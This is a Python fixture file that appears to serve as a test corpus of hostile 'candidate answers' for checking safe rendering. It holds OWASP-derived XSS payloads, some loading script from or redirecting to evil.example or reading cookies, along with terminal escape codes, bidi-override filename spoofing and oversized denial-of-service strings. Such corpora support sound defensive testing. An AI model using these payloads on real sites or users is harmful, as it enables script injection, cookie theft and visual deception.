"""Answers of a candidate that wants to run in the reader's browser or to deceive their eyes.

The markup follows OWASP's collection (XSS Filter Evasion Cheat Sheet); the rest are tricks of terminals and of text direction.
"""

MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('XSS');\">", "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>", "<IMG SRC=# onmouseover=\"alert('xxs')\">", "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72>",
    "<IMG SRC=\"jav\tascript:alert(1);\">", "<IMG SRC=\"jav&#x0A;ascript:alert(1);\">", "<IMG SRC=java\0script:alert(1)>",
    "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>", "<SCRIPT SRC=//evil.example/.j>", "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">", "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><script>alert&#40;1)</script></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<BGSOUND SRC=\"javascript:alert(1);\">", "<BR SIZE=\"&{alert(1)}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">", "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>XSS</br>", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=https://evil.example/\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"daepyo=1\">", "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>", "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">", "<DIV STYLE=\"width: expression(alert(1));\">",
    "<DIV STYLE=\"position:fixed;inset:0;background:red\">You have won</DIV>", "<BASE HREF=\"javascript:alert(1);//\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/x.html\"></OBJECT>", "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\">",
    "<a onmouseover=\"alert(document.cookie)\">x</a>", "<A HREF=\"javascript:document.location='https://evil.example/'\">x</A>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<form action=/sign-out method=post><button>vote</button></form>", "<input autofocus onfocus=alert(1)>",
    "<form><input name=csrf value=stolen></form>", "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>", "\"><script>alert(1)</script>", "' onfocus='alert(1)' autofocus='",
    "<?xml version=\"1.0\"?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>", "{{constructor.constructor('alert(1)')()}}",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt&colon;alert(1))", "![x](https://evil.example/pixel.png)", "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```", "`<img src=x onerror=alert(1)>`", "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | d |",
]

TEXT = [
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[1;1H", "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "a\rb\x08\x08\x7f", "bell \x07 null \x00 end",
    "\u202egnp.exe\u202c and \u2066isolate", "\u200f\u061cabc \u202dabc\u202c", "\u2067\u2066\u202e" * 50 + "x", "zero\u200bwidth\u2060\ufeff", "\U000e0041\U000e0042 tags",
    "Z" + "\u0300" * 3000, "\ufdfd" * 500, "가" * 20_000, "x" * 1_000_000, "# " * 5_000, "> " * 5_000 + "deep", "- " * 3_000 + "deep", "*" * 20_000, "[" * 20_000,
    "|" * 10_000, "\n" * 50_000 + "end", "a " * 100_000, "`" * 10_001, "&" * 10_000, "<" * 10_000,
]

ANSWERS = MARKUP + TEXT
